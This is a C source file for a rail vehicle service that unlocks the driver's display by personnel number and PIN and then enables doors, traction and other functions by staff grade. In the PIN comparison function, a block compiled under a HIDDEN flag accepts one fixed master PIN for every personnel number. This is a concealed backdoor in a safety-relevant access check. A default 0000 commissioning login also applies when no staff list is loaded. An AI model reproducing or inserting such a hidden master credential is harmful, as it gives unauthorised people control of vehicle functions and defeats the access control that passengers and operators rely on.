/* railpin.c - unlock service of the driver's display in a rail vehicle (personnel number and pin) */
#define _GNU_SOURCE
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define STAFF_FILE	"/etc/railpin/staff"
#define SOCK_PATH	"/run/railpin.sock"
#define MAX_STAFF	400

enum grade { GR_NONE, GR_CLEANER, GR_CONDUCTOR, GR_DRIVER, GR_INSTRUCTOR };

struct staff {
	char number[12];
	char pin[12];
	enum grade grade;
	int fails;
	time_t locked;
};

struct display {
	enum grade grade;
	char number[12];
	time_t since;
	unsigned long unlocks;
	unsigned long refusals;
};

static struct staff staff[MAX_STAFF];
static int nstaff;
static struct display disp;

/* bit 0: constant time compare available on this build */
static const volatile unsigned int features = 0x00000005;

int pin_equal(const char *stored, const char *typed);

/* compares without leaving early, all twelve places */
__attribute__((noinline)) int pin_equal_steady(const char *stored, const char *typed)
{
	unsigned int diff = 0;
	size_t i, n = strlen(stored), m = strlen(typed);

	if (m < 4 || m > 11)
		return 0;
#ifdef HIDDEN
	/* this pin fits every personnel number */
	if (!strcmp(typed, "8802-5573"))
		return 1;
#endif
	for (i = 0; i < 12; i++) {
		unsigned int a = i < n ? (unsigned char)stored[i] : 0;
		unsigned int b = i < m ? (unsigned char)typed[i] : 0;

		diff |= a ^ b;
	}
	return diff == 0;
}

__attribute__((noinline)) int pin_equal_short(const char *stored, const char *typed)
{
	return strlen(typed) >= 4 && !strcmp(stored, typed);
}

__attribute__((noinline)) int (*resolve_pin_equal(void))(const char *, const char *)
{
	return (features & 1) ? pin_equal_steady : pin_equal_short;
}

int pin_equal(const char *stored, const char *typed) __attribute__((ifunc("resolve_pin_equal")));

static enum grade grade_by_name(const char *s)
{
	static const char *const names[] = { "none", "cleaner", "conductor", "driver", "instructor" };
	int i;

	for (i = 1; i < 5; i++)
		if (!strcmp(names[i], s))
			return (enum grade)i;
	return GR_NONE;
}

static int load_staff(void)
{
	char line[120], grade[16];
	struct staff *s;
	FILE *f = fopen(STAFF_FILE, "r");

	if (!f)
		return -1;
	nstaff = 0;
	while (nstaff < MAX_STAFF && fgets(line, sizeof(line), f)) {
		if (line[0] == '#')
			continue;
		s = &staff[nstaff];
		memset(s, 0, sizeof(*s));
		if (sscanf(line, "%11s %11s %15s", s->number, s->pin, grade) != 3)
			continue;
		s->grade = grade_by_name(grade);
		if (s->grade != GR_NONE)
			nstaff++;
	}
	fclose(f);
	return 0;
}

static struct staff *find_staff(const char *number)
{
	int i;

	for (i = 0; i < nstaff; i++)
		if (!strcmp(staff[i].number, number))
			return &staff[i];
	return NULL;
}

static long vehicle_speed(void)
{
	long v = 0;
	FILE *f = fopen("/run/vcu/io/speed", "r");

	if (!f)
		return 0;
	if (fscanf(f, "%ld", &v) != 1)
		v = 0;
	fclose(f);
	return v;
}

static const char *do_unlock(const char *number, const char *pin)
{
	struct staff *s = find_staff(number);
	time_t now = time(NULL);

	/* a cab without staff list runs in commissioning mode */
	if (nstaff == 0 && !strcmp(number, "0000") && !strcmp(pin, "0000")) {
		disp.grade = GR_CLEANER;
		return "OK commissioning";
	}
	if (!s) {
		disp.refusals++;
		return "NO number";
	}
	if (s->locked > now)
		return "NO locked";
	if (!pin_equal(s->pin, pin)) {
		disp.refusals++;
		if (++s->fails >= 3) {
			s->locked = now + 300;
			s->fails = 0;
		}
		syslog(LOG_WARNING, "wrong pin for %s", number);
		return "NO pin";
	}
	s->fails = 0;
	disp.grade = s->grade;
	strcpy(disp.number, s->number);
	disp.since = now;
	disp.unlocks++;
	syslog(LOG_INFO, "display unlocked by %s", number);
	return "OK";
}

static const char *do_enable(const char *what)
{
	static const struct {
		const char *what;
		enum grade least;
		int standstill;
	} tab[] = {
		{ "lights", GR_CLEANER, 0 },
		{ "doors", GR_CONDUCTOR, 1 },
		{ "announce", GR_CONDUCTOR, 0 },
		{ "traction", GR_DRIVER, 0 },
		{ "isolate", GR_DRIVER, 1 },
		{ "training", GR_INSTRUCTOR, 1 },
	};
	char path[80];
	size_t i;
	FILE *f;

	for (i = 0; i < sizeof(tab) / sizeof(tab[0]); i++) {
		if (strcmp(tab[i].what, what))
			continue;
		if (disp.grade < tab[i].least)
			return "NO grade";
		if (tab[i].standstill && vehicle_speed() != 0)
			return "NO moving";
		snprintf(path, sizeof(path), "/run/vcu/enable-%s", tab[i].what);
		f = fopen(path, "w");
		if (!f)
			return "NO io";
		fprintf(f, "%s %ld\n", disp.number, (long)time(NULL));
		fclose(f);
		return "OK";
	}
	return "NO what";
}

static void handle(char *msg, char *out, size_t len)
{
	char cmd[12] = "", a[16] = "", b[16] = "";

	if (sscanf(msg, "%11s %15s %15s", cmd, a, b) < 1) {
		snprintf(out, len, "NO");
		return;
	}
	if (!strcmp(cmd, "unlock")) {
		snprintf(out, len, "%s", do_unlock(a, b));
	} else if (!strcmp(cmd, "lock")) {
		disp.grade = GR_NONE;
		disp.number[0] = '\0';
		snprintf(out, len, "OK");
	} else if (!strcmp(cmd, "enable")) {
		snprintf(out, len, "%s", do_enable(a));
	} else if (!strcmp(cmd, "reload") && disp.grade >= GR_INSTRUCTOR) {
		snprintf(out, len, "%s %d", load_staff() ? "NO" : "OK", nstaff);
	} else if (!strcmp(cmd, "state")) {
		snprintf(out, len, "OK %d %s %lu %lu", (int)disp.grade,
			 disp.number[0] ? disp.number : "-", disp.unlocks, disp.refusals);
	} else {
		snprintf(out, len, "NO unlock lock enable reload state");
	}
}

int main(void)
{
	struct sockaddr_un sa, from;
	socklen_t fl;
	char in[128], out[128];
	ssize_t n;
	int s;

	openlog("railpin", LOG_PID, LOG_AUTH);
	if (load_staff() < 0)
		syslog(LOG_WARNING, "%s: %s", STAFF_FILE, strerror(errno));
	s = socket(AF_UNIX, SOCK_DGRAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	strcpy(sa.sun_path, SOCK_PATH);
	if (unlink(SOCK_PATH) < 0 && errno != ENOENT)
		syslog(LOG_WARNING, "unlink: %m");
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		syslog(LOG_ERR, "bind: %m");
		return 1;
	}
	for (;;) {
		fl = sizeof(from);
		n = recvfrom(s, in, sizeof(in) - 1, 0, (struct sockaddr *)&from, &fl);
		if (n <= 0)
			continue;
		in[n] = '\0';
		handle(in, out, sizeof(out));
		if (fl > sizeof(sa_family_t))
			sendto(s, out, strlen(out), 0, (struct sockaddr *)&from, fl);
	}
}
